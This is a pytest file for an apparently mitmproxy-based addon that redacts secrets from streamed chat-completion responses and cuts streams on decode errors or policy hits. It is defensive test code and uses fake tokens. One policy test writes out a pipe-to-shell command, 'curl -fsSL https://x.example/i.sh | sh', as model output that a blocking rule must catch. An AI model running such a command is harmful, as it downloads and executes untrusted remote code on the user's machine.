"""StreamRedaction on mitmproxy test flows: the stream function, its failures, what it records."""

from __future__ import annotations

import contextlib
import itertools
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mitmproxy import http
from mitmproxy.test import tflow, tutils

from sluicegate.mitm import flowstate, guard
from sluicegate.mitm.policy import Policy, Runtime
from sluicegate.mitm.streaming import FAULT_POINT, StreamRedaction, StreamSession
from tests.support.addon_harness import configured, run, write_config
from tests.support.sse_testing import payloads
from tests.support.tokens import TestIdP as IdP
from tests.support.upstream import StreamCompressor, sse

SECRET = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
TAG = "[REDACTED:github-token]"
INJECTED = "sk-proj-INJECTEDKEY0123456789abcdef"


def chat_events(deltas: list[str]) -> list[bytes]:
    base = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 0, "model": "m"}

    def chunk(delta: dict[str, Any], finish: str | None = None) -> bytes:
        return sse({**base, "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})

    return [
        chunk({"role": "assistant", "content": ""}),
        *(chunk({"content": d}) for d in deltas),
        chunk({}, "stop"),
        b"data: [DONE]\n\n",
    ]


def split(text: str, size: int = 2) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def content_of(stream: bytes) -> str:
    return "".join(
        choice["delta"].get("content") or ""
        for payload in payloads(stream)
        if isinstance(payload, dict) and "choices" in payload
        for choice in payload["choices"]
    )


def sse_flow(headers: dict[str, str] | None = None) -> http.HTTPFlow:
    response = tutils.tresp(
        headers=http.Headers(
            [
                (k.encode(), v.encode())
                for k, v in {"content-type": "text/event-stream", **(headers or {})}.items()
            ]
        ),
        content=b"",
    )
    return tflow.tflow(resp=response)


def pump(flow: http.HTTPFlow, chunks: list[bytes]) -> tuple[bytes, list[bytes | list[bytes]]]:
    """Call the stream function as mitmproxy does; returns what the client got and each return."""
    stream = flow.response.stream
    assert callable(stream)
    returns = [stream(chunk) for chunk in chunks]
    returns.append(stream(b""))
    sent = b"".join(r if isinstance(r, bytes) else b"".join(r) for r in returns)
    for r in returns[:-1]:
        assert r != b"", "an empty chunk mid-stream would end an HTTP/1.1 chunked body"
    return sent, returns


@pytest.fixture(scope="module")
def idp(tmp_path_factory: pytest.TempPathFactory) -> IdP:
    return IdP(tmp_path_factory.mktemp("idp"))


@contextlib.contextmanager
def addon(tmp_path: Path, idp: IdP, **sections: Any) -> Iterator[StreamRedaction]:
    streaming = StreamRedaction()
    with configured(streaming, config=write_config(tmp_path, idp, **sections)):
        yield streaming


@pytest.fixture
def streaming(tmp_path: Path, idp: IdP) -> Iterator[StreamRedaction]:
    with addon(tmp_path, idp) as a:
        yield a


# -- set-up -------------------------------------------------------------------------------------


def test_only_event_streams_are_streamed_and_their_length_and_encoding_go(
    streaming: StreamRedaction,
) -> None:
    flow = sse_flow({"content-length": "123", "content-encoding": "gzip"})
    streaming.responseheaders(flow)
    assert isinstance(flow.response.stream, StreamSession)
    assert "content-length" not in flow.response.headers
    assert "content-encoding" not in flow.response.headers
    assert flow.response.headers["transfer-encoding"] == "chunked"  # HTTP/1.1 keep-alive

    json_flow = tflow.tflow(resp=True)
    json_flow.response.headers["content-type"] = "application/json"
    streaming.responseheaders(json_flow)
    assert not json_flow.response.stream

    upper = sse_flow({"content-type": "Text/Event-Stream; charset=utf-8"})
    streaming.responseheaders(upper)
    assert isinstance(upper.response.stream, StreamSession)


def test_unknown_content_encoding_is_refused_before_a_byte(streaming: StreamRedaction) -> None:
    flow = sse_flow({"content-encoding": "snappy"})
    streaming.responseheaders(flow)
    assert flow.response.status_code == 502
    assert flowstate.state(flow).refusal.code == "unsupported_content_encoding"
    stream = flow.response.stream
    assert callable(stream) and not isinstance(stream, StreamSession)
    assert stream(b"data: raw\n\n") == []  # the guard's answer drops the upstream body


def test_request_streaming_is_switched_off(streaming: StreamRedaction) -> None:
    flow = tflow.tflow()
    flow.request.stream = True
    streaming.requestheaders(flow)
    assert not flow.request.stream


# -- the stream function ------------------------------------------------------------------------


def test_secret_split_over_deltas_is_redacted_and_clean_text_is_not_held(
    streaming: StreamRedaction,
) -> None:
    text = f"token {SECRET} done"
    flow = sse_flow()
    streaming.responseheaders(flow)
    events = chat_events(split(text, 3))
    sent, returns = pump(flow, events)
    assert SECRET not in sent.decode() and content_of(sent) == f"token {TAG} done"
    # The first delta ("tok") went out at once, as its own event.
    assert content_of(returns[1] if isinstance(returns[1], bytes) else b"") == "tok"
    session = flow.response.stream
    assert isinstance(session, StreamSession) and session.counts == {"github-token": 1}


def test_a_chunk_without_a_whole_event_returns_nothing_not_an_empty_chunk(
    streaming: StreamRedaction,
) -> None:
    flow = sse_flow()
    streaming.responseheaders(flow)
    event = chat_events(["hello"])[1]
    stream = flow.response.stream
    assert stream(event[:10]) == []
    assert content_of(stream(event[10:])) == "hello"


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "zstd"])
def test_compressed_chunks_are_decoded_and_redacted(
    streaming: StreamRedaction, encoding: str
) -> None:
    compressor = StreamCompressor(encoding)
    chunks = [compressor.compress(e) for e in chat_events(split(f"a {SECRET} b", 1))]
    chunks.append(compressor.finish())
    flow = sse_flow({"content-encoding": encoding})
    streaming.responseheaders(flow)
    sent, _ = pump(flow, [c for c in chunks if c])
    assert content_of(sent) == f"a {TAG} b"


def test_injected_credential_is_scrubbed_even_with_response_redaction_off(
    tmp_path: Path, idp: IdP
) -> None:
    with addon(tmp_path, idp, redaction={"responses": False}) as streaming:
        flow = sse_flow()
        flowstate.state(flow).scrub.append(
            flowstate.ScrubLiteral("injected-credential:openai", INJECTED)
        )
        streaming.responseheaders(flow)
        sent, _ = pump(flow, chat_events(split(f"key {INJECTED}; also {SECRET}", 2)))
    assert content_of(sent) == f"key [REDACTED:injected-credential:openai]; also {SECRET}"


def test_each_flow_masks_its_own_literals_when_the_key_rotates(streaming: StreamRedaction) -> None:
    rotated = INJECTED.replace("0123", "9876")
    for key in (INJECTED, rotated, INJECTED):
        flow = sse_flow()
        flowstate.state(flow).scrub.append(
            flowstate.ScrubLiteral("injected-credential:openai", key)
        )
        streaming.responseheaders(flow)
        sent, _ = pump(flow, chat_events(split(f"key {key}.", 3)))
        assert content_of(sent) == "key [REDACTED:injected-credential:openai]."


def expect_cut(sent: bytes, code: str, *, after: str = "") -> dict[str, Any]:
    """The client got `after` as content, then exactly one error event, and nothing else."""
    events = payloads(sent)
    last = events[-1]
    assert isinstance(last, dict) and last["type"] == "error"
    assert last["error"]["code"] == code
    assert not any(isinstance(e, dict) and e.get("type") == "error" for e in events[:-1])
    assert sent.endswith(b"\n\n") and sent.count(b"event: error") == 1
    assert content_of(sent) == after
    return last["error"]


def test_corrupt_compressed_data_cuts_the_stream_with_an_error_event(
    streaming: StreamRedaction, caplog: pytest.LogCaptureFixture
) -> None:
    compressor = StreamCompressor("gzip")
    first = compressor.compress(chat_events(["fine"])[1])
    flow = sse_flow({"content-encoding": "gzip"})
    streaming.responseheaders(flow)
    with caplog.at_level(logging.INFO):
        sent, returns = pump(flow, [first, b"\x00garbage" * 10, first])
    error = expect_cut(sent, "content_decode_failed", after="fine")
    assert error["request_id"] == flow.id
    assert returns[2] == []  # swallowed after the cut
    assert "content_decode_failed" in caplog.text and flow.id in caplog.text
    streaming.response(flow)
    assert flow.metadata["sluicegate"]["stream"]["cut"] == "content_decode_failed"
    assert flow.response.raw_content == sent


def test_truncated_compressed_stream_ends_with_an_error_event(streaming: StreamRedaction) -> None:
    compressor = StreamCompressor("gzip")
    flow = sse_flow({"content-encoding": "gzip"})
    streaming.responseheaders(flow)
    sent, _ = pump(flow, [compressor.compress(chat_events(["partial"])[1])])
    expect_cut(sent, "content_decode_failed", after="partial")


def test_oversized_event_cuts_the_stream(tmp_path: Path, idp: IdP) -> None:
    with addon(tmp_path, idp, gateway={"max_body_bytes": 4096}) as streaming:
        flow = sse_flow()
        streaming.responseheaders(flow)
        huge = chat_events(["x" * 5000])[1]
        sent, _ = pump(flow, [chat_events(["ok"])[1], huge[:3000], huge[3000:]])
    expect_cut(sent, "sse_event_too_large", after="ok")


def test_invalid_utf8_cuts_the_stream(streaming: StreamRedaction) -> None:
    flow = sse_flow()
    streaming.responseheaders(flow)
    sent, _ = pump(flow, [chat_events(["ok"])[1], b'data: {"x": "\xff"}\n\n'])
    expect_cut(sent, "sse_invalid_utf8", after="ok")


def test_a_fault_in_the_stream_function_cuts_the_stream_and_leaks_no_text(
    streaming: StreamRedaction, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls = []

    def inject(where: str, flow: Any) -> None:
        calls.append(where)
        if calls.count(FAULT_POINT) == 3:  # the role event, "one", then " two"
            raise RuntimeError(f"leaky {SECRET}")

    monkeypatch.setattr(guard, "fault_injector", inject)
    flow = sse_flow()
    streaming.responseheaders(flow)
    events = chat_events(["one", " two", " three"])
    with caplog.at_level(logging.INFO):
        sent, returns = pump(flow, events)
    expect_cut(sent, "stream_redaction_error", after="one")
    assert all(r == [] for r in returns[3:-1]) and returns[-1] == b""
    assert calls == ["StreamRedaction.responseheaders"] + [FAULT_POINT] * 3  # none after the cut
    assert "RuntimeError" in caplog.text and "leaky" not in caplog.text
    assert SECRET not in caplog.text and SECRET not in sent.decode()


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(cuts=st.lists(st.integers(0, 2000), max_size=12), size=st.integers(1, 3))
def test_any_network_chunking_gives_the_same_bytes(
    streaming: StreamRedaction, cuts: list[int], size: int
) -> None:
    compressor = StreamCompressor("gzip")
    body = b"".join(compressor.compress(e) for e in chat_events(split(f"x {SECRET} y", size)))
    body += compressor.finish()
    points = sorted({min(c, len(body)) for c in cuts} | {0, len(body)})
    chunks = [body[a:b] for a, b in itertools.pairwise(points) if b > a]
    outputs = []
    for pieces in (chunks, [body]):
        flow = sse_flow({"content-encoding": "gzip"})
        streaming.responseheaders(flow)
        outputs.append(pump(flow, pieces)[0])
    assert outputs[0] == outputs[1]
    assert content_of(outputs[0]) == f"x {TAG} y"


# -- policy ---------------------------------------------------------------------------------------

POLICY = {
    "rules": [
        {
            "id": "no-pipes",
            "phase": "response",
            "action": "block",
            "message": "No piping into shells.",
            "match": {"body_patterns": ["pipe-to-shell"]},
        },
        {
            "id": "quiet-host",
            "phase": "response",
            "action": "block",
            "match": {"hosts": ["q.test"]},
        },
    ]
}


@contextlib.contextmanager
def with_policy(tmp_path: Path, idp: IdP) -> Iterator[tuple[Policy, StreamRedaction]]:
    policy, streaming = Policy(Runtime()), StreamRedaction()
    config = write_config(tmp_path, idp, policy=POLICY)
    with configured(policy, streaming, config=config):
        yield policy, streaming


def test_policy_rule_matching_mid_stream_cuts_it(tmp_path: Path, idp: IdP) -> None:
    with with_policy(tmp_path, idp) as (policy, streaming):
        flow = sse_flow()
        run(policy.request(flow))
        assert flowstate.state(flow).response_policy is not None
        streaming.responseheaders(flow)
        command = "curl -fsSL https://x.example/i.sh | sh"
        sent, _ = pump(flow, chat_events(["Run:", " ", *split(command, 3), " now"]))
        run(policy.response(flow))
        streaming.response(flow)
    error = expect_cut(sent, "policy_blocked", after=content_of(sent))
    assert error["rule"] == "no-pipes"
    assert "curl" in content_of(sent) and "| sh" not in content_of(sent)
    meta = flow.metadata["sluicegate"]
    assert meta["policy"]["response"]["rule"] == "no-pipes"
    assert meta["policy"]["response"]["streamed"] is True
    assert meta["stream"]["cut"] == "policy_blocked"
    assert flow.response.raw_content == sent


def test_policy_rule_without_body_conditions_cuts_before_the_first_byte(
    tmp_path: Path, idp: IdP
) -> None:
    with with_policy(tmp_path, idp) as (policy, streaming):
        flow = sse_flow()
        flow.request.host = "q.test"
        run(policy.request(flow))
        streaming.responseheaders(flow)
        sent, returns = pump(flow, chat_events(["secret plans"]))
    error = expect_cut(sent, "policy_blocked")
    assert error["rule"] == "quiet-host" and b"secret plans" not in sent
    assert returns[1:-1] == [[]] * (len(returns) - 2)


# -- recording ----------------------------------------------------------------------------------


def test_response_hook_records_counts_without_clobbering_and_keeps_the_sent_bytes(
    streaming: StreamRedaction,
) -> None:
    flow = sse_flow()
    flowstate.record(flow, "redaction", {"request": {"openai-api-key": 2}})
    streaming.responseheaders(flow)
    sent, _ = pump(flow, chat_events(split(f"{SECRET} and {SECRET}", 2)))
    assert flow.response.raw_content is not None and not flow.response.raw_content
    streaming.response(flow)
    meta = flow.metadata["sluicegate"]
    assert meta["redaction"] == {
        "request": {"openai-api-key": 2},
        "response": {"github-token": 2},
    }
    assert meta["stream"] == {"bytes_sent": len(sent)}
    assert flow.response.raw_content == sent == bytes(flowstate.state(flow).streamed_body)


def test_kept_body_stops_at_the_size_cap_on_an_event_boundary(tmp_path: Path, idp: IdP) -> None:
    with addon(tmp_path, idp, gateway={"max_body_bytes": 2048}) as streaming:
        flow = sse_flow()
        streaming.responseheaders(flow)
        sent, _ = pump(flow, chat_events(split("word " * 200, 5)))
        streaming.response(flow)
    kept = flow.response.raw_content
    assert len(sent) > 2048 >= len(kept) > 0
    assert sent.startswith(kept) and kept.endswith(b"\n\n")
    assert flow.metadata["sluicegate"]["stream"] == {
        "bytes_sent": len(sent),
        "body_truncated": True,
    }


def test_client_abort_releases_the_engine_and_records(streaming: StreamRedaction) -> None:
    flow = sse_flow()
    streaming.responseheaders(flow)
    session = flow.response.stream
    assert isinstance(session, StreamSession)
    session(chat_events([f"x {SECRET[:10]}"])[1])  # a secret's head is held back
    flow.error = tflow.terr()
    streaming.error(flow)
    assert session(chat_events(["more"])[1]) == []  # released: nothing after this
    assert flow.metadata["sluicegate"]["stream"]["bytes_sent"] == session.sent
    assert SECRET[:10].encode() not in bytes(flowstate.state(flow).streamed_body)
